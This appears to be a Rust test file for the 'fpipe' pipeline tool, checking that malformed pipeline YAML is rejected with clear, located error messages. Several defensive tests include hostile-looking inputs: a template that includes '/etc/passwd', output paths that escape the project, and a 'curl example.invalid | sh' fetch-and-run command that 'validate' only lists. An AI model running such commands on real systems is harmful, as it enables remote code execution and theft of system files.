//! Every kind of bad pipeline is rejected before anything runs: exit code 2, a message naming
//! the file, the line and the stage, and a hint.

mod common;
use common::Project;

/// Runs `fpipe run` on `text` and returns stderr, checking exit 2 and that nothing ran.
fn rejected(text: &str) -> String {
    let p = Project::new();
    p.write("bad.yaml", text);
    let r = p.fpipe(&["run", "bad.yaml"]);
    assert_eq!(r.code, 2, "expected rejection (exit 2):\n{}", r.all());
    assert!(
        !p.path().join(".fpipe").exists(),
        "nothing may run or be cached"
    );
    assert!(
        r.stderr.starts_with("error: bad.yaml:"),
        "names the file: {}",
        r.stderr
    );
    // validate and status reject it the same way.
    assert_eq!(p.fpipe(&["validate", "bad.yaml"]).code, 2);
    assert_eq!(p.fpipe(&["status", "bad.yaml"]).code, 2);
    r.stderr
}

#[test]
fn malformed_yaml() {
    let e = rejected("stages:\n  a:\n    uses: shell\n   with: {run: x}\n");
    assert!(e.contains("bad.yaml:4: malformed YAML"), "{e}");
}

#[test]
fn unknown_kind_lists_close_matches() {
    let e = rejected("stages:\n  a:\n    uses: shel\n    with: {run: x}\n");
    assert!(
        e.contains("bad.yaml:3: stage `a`: unknown stage kind `shel`"),
        "{e}"
    );
    assert!(e.contains("did you mean `shell`?"), "{e}");
}

#[test]
fn missing_stage_reference() {
    let e = rejected(
        "stages:\n  make:\n    uses: shell\n    with: {run: x}\n  b:\n    uses: shell\n    inputs:\n      m: mkae\n    with: {run: x}\n",
    );
    assert!(
        e.contains("bad.yaml:8: stage `b`: input `m`: refers to missing stage `mkae`"),
        "{e}"
    );
    assert!(e.contains("did you mean `make`?"), "{e}");
}

#[test]
fn missing_port() {
    let e = rejected(
        "stages:\n  make:\n    uses: shell\n    with: {run: x}\n  b:\n    uses: shell\n    inputs:\n      m: make.model\n    with: {run: x}\n",
    );
    assert!(
        e.contains("stage `b`: input `m`: stage `make` has no output port `model`"),
        "{e}"
    );
    assert!(e.contains("expected one of: files"), "{e}");
}

#[test]
fn cycle_is_printed() {
    let e = rejected(
        "stages:\n  a:\n    uses: shell\n    inputs: {x: c}\n    with: {run: x}\n  b:\n    uses: shell\n    inputs: {x: a}\n    with: {run: x}\n  c:\n    uses: shell\n    inputs: {x: b}\n    with: {run: x}\n",
    );
    assert!(e.contains("the stages form a cycle:"), "{e}");
    let cycle = e.split("cycle: ").nth(1).unwrap().lines().next().unwrap();
    let names: Vec<&str> = cycle.split(" -> ").collect();
    assert_eq!(names.len(), 4, "{cycle}");
    assert_eq!(names[0], names[3]);
    for n in ["a", "b", "c"] {
        assert!(names.contains(&n), "{cycle}");
    }
}

#[test]
fn self_reference_is_a_cycle() {
    let e = rejected("stages:\n  a:\n    uses: shell\n    inputs: {x: a}\n    with: {run: x}\n");
    assert!(e.contains("cycle: a -> a"), "{e}");
}

#[test]
fn unknown_parameter_suggests() {
    let e = rejected("stages:\n  a:\n    uses: shell\n    with:\n      rnu: echo\n");
    assert!(
        e.contains("bad.yaml:5: stage `a`: unknown parameter `rnu` for kind `shell`"),
        "{e}"
    );
    assert!(e.contains("did you mean `run`?"), "{e}");
}

#[test]
fn ill_typed_parameter() {
    let e =
        rejected("stages:\n  a:\n    uses: shell\n    with:\n      run: echo\n      outputs: 3\n");
    assert!(
        e.contains("bad.yaml:6: stage `a`: parameter `outputs` must be a list of a string, got 3"),
        "{e}"
    );
}

#[test]
fn missing_required_parameter() {
    let e = rejected("stages:\n  a:\n    uses: shell\n");
    assert!(
        e.contains("stage `a`: missing required parameter `run`"),
        "{e}"
    );
}

#[test]
fn duplicate_stage_name() {
    let e = rejected("stages:\n  a:\n    uses: shell\n    with: {run: x}\n  a:\n    uses: shell\n    with: {run: y}\n");
    assert!(e.contains("duplicate"), "{e}");
    // Across an include.
    let p = Project::new();
    p.write(
        "lib.yaml",
        "stages:\n  a:\n    uses: shell\n    with: {run: x}\n",
    );
    p.write(
        "main.yaml",
        "include: lib.yaml\nstages:\n  a:\n    uses: shell\n    with: {run: y}\n",
    );
    let r = p.fpipe(&["run", "main.yaml"]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr
            .contains("main.yaml:3: stage `a`: duplicate stage name"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("lib.yaml:2"), "{}", r.stderr);
}

#[test]
fn template_error_names_the_line() {
    let e = rejected("params: {x: 1}\nstages:\n  a:\n    uses: shell\n    with: {run: \"echo {{ params.y }}\"}\n");
    assert!(e.contains("bad.yaml:5: template error"), "{e}");
    assert!(e.contains("-p NAME=VALUE"), "{e}");
}

#[test]
fn templates_cannot_read_files_or_environment() {
    let e = rejected(
        "stages:\n  a:\n    uses: shell\n    with: {run: \"{% include '/etc/passwd' %}\"}\n",
    );
    assert!(e.contains("template error"), "{e}");
    let e = rejected("stages:\n  a:\n    uses: shell\n    with: {run: \"{{ env.HOME }}\"}\n");
    assert!(e.contains("template error"), "{e}");
}

#[test]
fn output_paths_may_not_escape() {
    for bad in ["../x", "out/../../x", "/tmp/evil", "in/msg/x"] {
        let e = rejected(&format!("stages:\n  a:\n    uses: shell\n    with:\n      run: echo\n      outputs: [\"{bad}\"]\n"));
        assert!(e.contains("stage `a`: output"), "{bad}: {e}");
    }
}

#[test]
fn unknown_format_version() {
    let e = rejected("fpipe: 2\nstages: {}\n");
    assert!(
        e.contains("bad.yaml:1: pipeline format version `2` is not supported"),
        "{e}"
    );
    assert!(e.contains("this fpipe reads format 1"), "{e}");
}

#[test]
fn unknown_stage_field_suggests() {
    let e = rejected("stages:\n  a:\n    uses: shell\n    input: {x: y}\n    with: {run: x}\n");
    assert!(
        e.contains("bad.yaml:4: stage `a`: unknown stage field `input`"),
        "{e}"
    );
    assert!(e.contains("did you mean `inputs`?"), "{e}");
}

#[test]
fn family_needs_an_item() {
    let e = rejected(
        "stages:\n  s:\n    foreach: 2\n    uses: shell\n    with: {run: x}\n  b:\n    uses: shell\n    inputs: {m: s}\n    with: {run: x}\n",
    );
    assert!(e.contains("`s` is a family of 2 stages"), "{e}");
    assert!(e.contains("`s@last`"), "{e}");
}

#[test]
fn bad_param_override() {
    let p = Project::new();
    p.write(
        "ok.yaml",
        "stages:\n  a:\n    uses: shell\n    with: {run: x}\n",
    );
    let r = p.fpipe(&["run", "ok.yaml", "-p", "novalue"]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("expected key=value"), "{}", r.stderr);
    // A misspelt parameter is an error naming it and the declared ones, not a silent no-op.
    p.write(
        "p.yaml",
        "params: {epochs: 2}\nstages:\n  a:\n    uses: shell\n    with: {run: 'echo {{ params.epochs }} {{ params.opt | default(1) }} > out', outputs: [out]}\n",
    );
    let r = p.fpipe(&["run", "p.yaml", "-p", "epochz=3"]);
    assert_eq!(r.code, 2, "{}", r.all());
    assert!(
        r.stderr.contains("p.yaml") && r.stderr.contains("no parameter `epochz`"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("did you mean `epochs`"), "{}", r.stderr);
    // Declared, or read by the template with a default: accepted.
    let args = ["run", "p.yaml", "-p", "epochs=3", "-p", "opt=4"];
    assert_eq!(p.fpipe(&args).ok().counts(), (1, 0, 0));
    let dir = p
        .fpipe(&["out", "a", "-f", "p.yaml", "-p", "epochs=3", "-p", "opt=4"])
        .ok();
    let out = std::fs::read_to_string(format!("{}/out", dir.stdout.trim())).unwrap();
    assert_eq!(out.trim(), "3 4");
    let r = p.fpipe(&["run", "missing.yaml"]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("missing.yaml: cannot read pipeline file"),
        "{}",
        r.stderr
    );
}

#[test]
fn validate_lists_every_shell_command() {
    let p = Project::new();
    p.write(
        "v.yaml",
        "params: {n: 2}\nstages:\n  s:\n    foreach: \"{{ params.n }}\"\n    uses: shell\n    with: {run: \"curl example.invalid | sh # ${item}\"}\n",
    );
    let r = p.fpipe(&["validate", "v.yaml"]).ok();
    assert!(
        r.stdout.contains("shell commands it would run (2)"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains("[s@1]\n    $ curl example.invalid | sh # 1"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains("[s@2]\n    $ curl example.invalid | sh # 2"),
        "{}",
        r.stdout
    );
    assert!(!p.path().join(".fpipe").exists());
}
